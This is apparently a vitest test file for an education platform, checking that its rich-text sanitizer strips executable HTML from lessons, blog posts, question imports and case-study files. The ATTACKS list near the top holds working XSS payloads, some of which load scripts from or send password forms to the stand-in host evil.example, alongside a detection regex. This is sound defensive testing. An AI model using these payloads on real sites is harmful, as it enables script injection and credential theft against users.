/** Every way for formatted text into the product: nothing executable gets through any of them. */
import { eq } from "drizzle-orm";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { sanitizeRichText } from "../core/rich-text.server.ts";
import { blogPosts, lessons } from "../db/schema.ts";
import { mapRichTexts } from "../items/registry/authoring.ts";
import { checkQuestion } from "../modules/questions/check-question.server.ts";
import { readJsonLine } from "../modules/questions/import/read-json-line.server.ts";
import { readQuestions } from "../modules/questions/import/read-questions.server.ts";
import { readColumns, readRow } from "../modules/questions/import/read-row.ts";
import { mapRecordTexts } from "../modules/stimuli/content.ts";
import { addLesson } from "../modules/subjects/commands/add-lesson.server.ts";
import { editLesson } from "../modules/subjects/commands/edit-lesson.server.ts";
import { buildAdmin, buildLesson, unique } from "../testing/build.ts";
import { singleChoiceBody } from "../testing/build-attempts.ts";
import { questionInput } from "../testing/build-content.ts";
import { buildPost } from "../testing/build-posts.ts";
import { openServices } from "../testing/services.ts";
import { db } from "../testing/test-db.ts";
import { RichText } from "../ui/rich-text.tsx";

const NOW = new Date("2026-11-21T09:00:00Z");
const admin = await buildAdmin(db);
const office = openServices();

const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://a.example/a.png' onload='alert(1)'>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<span style="color:red;position:fixed;inset:0">a</span>',
  "<style>@import url(https://evil.example/x.css);</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea>",
  "<template><script>alert(1)</script></template>",
  "<p id=__proto__ name=cookie onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>a</p>",
  "<details open ontoggle=alert(1)>a</details>",
  "<<script>script>alert(1)<</script>/script>",
];
const ATTACK = `<p>Words before.</p>${ATTACKS.join("")}<p>Words after.</p>`;

/** Fails if a text contains a tag or an attribute that no editor of ours makes. Its words may be anything. */
function expectHarmless(html: string): void {
  expect(sanitizeRichText(html)).toBe(html);
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    expect(tag).toMatch(
      /^<\/?(h[123]|p|blockquote|pre|[uo]l|li|t(able|head|body|r|h|d)|strong|em|u|s|su[bp]|code|a|mark|span|br|img)\b/,
    );
    expect(tag.replace(/\salt="[^"]*"/, "")).not.toMatch(/\son\w+\s*=|javascript|srcdoc|evil|position|url\(/i);
  }
}

test("a lesson, when it is added and when it is changed", async () => {
  const { subjectId } = await buildLesson(db);
  const input = { subjectId, title: unique("Hostile"), content: ATTACK };
  const added = await addLesson(office, admin, input, NOW);
  if (added.kind !== "added") throw new Error(added.kind);
  const find = async () => {
    const [row] = await db.select().from(lessons).where(eq(lessons.id, added.lessonId));
    if (!row) throw new Error("no lesson");
    return row;
  };
  const first = await find();
  expect(first.content).toContain("Words after.");
  expectHarmless(first.content);

  const { lessonId } = added;
  await editLesson(
    office,
    admin,
    { lessonId, basedOn: first.updatedAt, input: { ...input, content: `${ATTACK}<p>Again.</p>` } },
    NOW,
  );
  const changed = await find();
  expect(changed.content).toContain("Again.");
  expectHarmless(changed.content);
});

test("a post", async () => {
  const { postId } = await buildPost(db, admin, { content: ATTACK }, NOW);
  const [row] = await db.select().from(blogPosts).where(eq(blogPosts.id, postId));

  expect(row?.content).toContain("Words after.");
  expectHarmless(row?.content ?? "");
});

test("a question, in each of its texts", async () => {
  const { subjectId, lessonId } = await buildLesson(db);
  const body = mapRichTexts(singleChoiceBody(), () => ATTACK);
  const input = questionInput({ subjectId, lessonId }, { body });
  const checked = await db.transaction((tx) => checkQuestion(tx, input, null));
  if (checked.kind !== "fine") throw new Error(checked.kind);

  const texts: string[] = [];
  mapRichTexts(checked.question.body, (html) => {
    texts.push(html);
    return html;
  });
  expect(texts.length).toBeGreaterThan(1);
  for (const html of texts) expectHarmless(html);
});

test("a file of questions, in both of its forms", () => {
  const stored = readJsonLine(
    JSON.stringify({
      question_text: ATTACK,
      question_type: "text",
      explanation: ATTACK,
      options: ["Vagus", "Facial"],
      correct_answer: "Facial",
      lesson: { title: "Nerves", subject: { name: "Anatomy" } },
    }),
  );
  const header = [
    "subject",
    "lesson",
    "question",
    "option_a",
    "option_b",
    "option_c",
    "option_d",
    "answer",
    "explanation",
  ];
  const columns = readColumns(header);
  if (columns.kind === "wrong") throw new Error(columns.problem.join(" "));
  const row = readRow(columns.columns, ["Anatomy", "Set 1", ATTACK, "One", "Two", "Three", "Four", "C", ATTACK]);

  for (const read of [stored, row]) {
    if (read.kind !== "good") throw new Error(JSON.stringify(read));
    const texts: string[] = [];
    mapRichTexts(read.body, (html) => {
      texts.push(html);
      return html;
    });
    expect(texts.join("")).toContain("Words after.");
    for (const html of texts) expectHarmless(html);
  }
});

test("a case study as text, in its record and its questions", async () => {
  const oneLine = ATTACK.replaceAll("\n", " ");
  const file = `SUBJECT: Anatomy
LESSON: Set 1
NUMBER: 1
TYPE: Case Study
NAME: A case
TEXT: ${oneLine}
TAB1: Notes
TAB1TEXT@2: ${oneLine}
END
NUMBER: 2
TYPE: Multiple Choice
TEXT: ${oneLine}
A: One
B: Two
ANSWER: A
RATIONALE: ${oneLine}
END`;
  async function* bytes() {
    yield new TextEncoder().encode(file);
  }
  const texts: string[] = [];
  const keep = (html: string) => {
    texts.push(html);
    return html;
  };
  for await (const { row } of readQuestions(bytes(), 1)) {
    if (row.kind !== "stimulus" || !row.draft) throw new Error(JSON.stringify(row));
    mapRecordTexts(row.draft.content, keep);
    for (const { body } of row.draft.questions) mapRichTexts(body, keep);
  }
  expect(texts.filter((html) => html.includes("Words after."))).toHaveLength(4);
  for (const html of texts) expectHarmless(html);
});

test("clean text is shown unchanged, with nothing added", () => {
  const html = sanitizeRichText(ATTACK);

  expect(renderToStaticMarkup(createElement(RichText, { html }))).toContain(html);
});
